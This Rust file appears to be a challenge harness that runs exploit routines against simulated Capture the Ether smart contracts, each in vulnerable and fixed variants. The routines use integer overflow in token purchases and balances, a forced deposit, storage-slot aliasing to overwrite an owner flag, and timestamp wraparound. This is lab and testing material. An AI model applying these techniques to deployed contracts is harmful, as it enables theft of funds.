use cte_challenges::catalogue::Variant;
use cte_challenges::machine::Machine;
use cte_challenges::math::{
    Donation, DonationFixed, FiftyYears, FiftyYearsFixed, MappingChallenge, RetirementFund, TokenSale,
    TokenWhale,
};
use cte_core::constants::DONATION_SCALE;
use cte_core::storage::{aliasing_index, array_base_slot, SlotStore};
use cte_core::U256;

use crate::error::ExploitError;
use crate::session::{Session, World};

pub(super) fn token_sale(world: &mut World, session: &mut Session, variant: Variant) -> Result<(), ExploitError> {
    let mut m = Machine::new(TokenSale::new(variant, &world.config)?);
    let price = m.state().price();
    // Smallest count whose cost wraps past 2^256.
    let count = U256::MAX
        .checked_div(price)
        .and_then(|n| n.checked_add(U256::one()))
        .ok_or_else(|| ExploitError::InvalidParameters(format!("no overflowing purchase at price {price}")))?;
    let (cost, _) = count.overflowing_mul(price);
    let player = world.player;
    let r = m.execute(|c| c.buy(player, count, cost));
    session.step(&m, format!("buy({count}) paying {cost} wei"), r)?;
    let r = m.execute(|c| c.sell(player, U256::one()));
    session.step(&m, "sell(1)", r)?;
    Ok(())
}

pub(super) fn token_whale(world: &mut World, session: &mut Session, variant: Variant) -> Result<(), ExploitError> {
    let (player, accomplice) = (world.player, world.accomplice);
    let mut m = Machine::new(TokenWhale::new(player, variant, &world.config)?);
    let supply = m.state().balance_of(&player);
    m.apply(|c| c.approve(player, accomplice, supply));
    session.step(&m, format!("approve(accomplice, {supply})"), Ok::<_, ExploitError>(()))?;
    // The accomplice spends the allowance; the vulnerable token debits the
    // accomplice, whose zero balance wraps.
    let r = m.execute(|c| c.transfer_from(accomplice, player, player, U256::one()));
    session.step(&m, "accomplice transfer_from(player, player, 1)", r)?;
    let target = U256::from(world.config.whale_target_balance);
    let r = m.execute(|c| c.transfer(accomplice, player, target));
    session.step(&m, format!("accomplice transfer(player, {target})"), r)?;
    Ok(())
}

pub(super) fn retirement_fund(world: &mut World, session: &mut Session, variant: Variant) -> Result<(), ExploitError> {
    let (owner, player) = (world.deployer, world.player);
    let mut m = Machine::new(RetirementFund::new(owner, player, variant, &world.config, &world.clock));
    let r = m.execute(|c| c.force_deposit(U256::one()));
    session.step(&m, "force_deposit(1 wei)", r)?;
    let r = m.execute(|c| c.collect_penalty(player));
    session.step(&m, "collect_penalty", r)?;
    Ok(())
}

/// Set the element that aliases slot 0, after growing the array to
/// cover the whole slot space.
fn overwrite_flag<S: SlotStore + Clone>(
    mut m: Machine<MappingChallenge<S>>,
    session: &mut Session,
) -> Result<(), ExploitError> {
    let index = aliasing_index(array_base_slot(U256::one()), U256::zero());
    let r = m.execute(|c| c.set(U256::MAX - 1, U256::zero()));
    session.step(&m, "set(2^256 - 2, 0)", r)?;
    let r = m.execute(|c| c.set(index, U256::one()));
    session.step(&m, format!("set({index}, 1)"), r)?;
    Ok(())
}

pub(super) fn mapping(session: &mut Session, variant: Variant) -> Result<(), ExploitError> {
    match variant {
        Variant::Vulnerable => overwrite_flag(Machine::new(MappingChallenge::vulnerable()), session),
        Variant::Fixed => overwrite_flag(Machine::new(MappingChallenge::fixed()), session),
    }
}

pub(super) fn donation(world: &mut World, session: &mut Session, variant: Variant) -> Result<(), ExploitError> {
    let (owner, player) = (world.deployer, world.player);
    // The donated amount lands in the owner slot.
    let amount = player.to_u256();
    match variant {
        Variant::Vulnerable => {
            let mut m = Machine::new(Donation::new(owner, &world.config));
            let value = amount / m.state().scale();
            let r = m.execute(|c| c.donate(amount, value, &world.clock));
            session.step(&m, format!("donate({amount}) paying {value} wei"), r)?;
            let r = m.execute(|c| c.withdraw(player));
            session.step(&m, "withdraw", r)?;
        }
        Variant::Fixed => {
            let mut m = Machine::new(DonationFixed::new(owner, &world.config));
            let value = amount / DONATION_SCALE;
            let r = m.execute(|c| c.donate(player, amount, value, &world.clock));
            session.step(&m, format!("donate({amount}) paying {value} wei"), r)?;
            let r = m.execute(|c| c.withdraw(player));
            session.step(&m, "withdraw", r)?;
        }
    }
    Ok(())
}

pub(super) fn fifty_years(world: &mut World, session: &mut Session, variant: Variant) -> Result<(), ExploitError> {
    let player = world.player;
    let wei = U256::one();
    // One spacing before 2^256: the next spacing check wraps to zero.
    let wrap = U256::zero()
        .overflowing_sub(U256::from(world.config.contribution_spacing_secs))
        .0;
    match variant {
        Variant::Vulnerable => {
            let mut m = Machine::new(FiftyYears::new(player, &world.config, &world.clock));
            let r = m.execute(|c| c.upsert(player, U256::one(), wrap, wei));
            session.step(&m, "upsert(1, 2^256 - spacing)", r)?;
            let r = m.execute(|c| c.upsert(player, U256::from(2u8), U256::zero(), wei));
            session.step(&m, "upsert(2, 0)", r)?;
            let r = m.execute(|c| c.withdraw(player, U256::one(), &world.clock));
            session.step(&m, "withdraw(1)", r)?;
        }
        Variant::Fixed => {
            let mut m = Machine::new(FiftyYearsFixed::new(player, &world.config, &world.clock));
            let r = m.execute(|c| c.upsert(player, U256::one(), wrap, wei, &world.clock));
            session.step(&m, "upsert(1, 2^256 - spacing)", r)?;
            let r = m.execute(|c| c.upsert(player, U256::from(2u8), U256::zero(), wei, &world.clock));
            session.step(&m, "upsert(2, 0)", r)?;
            let r = m.execute(|c| c.withdraw(player, U256::one(), &world.clock));
            session.step(&m, "withdraw(1)", r)?;
        }
    }
    Ok(())
}
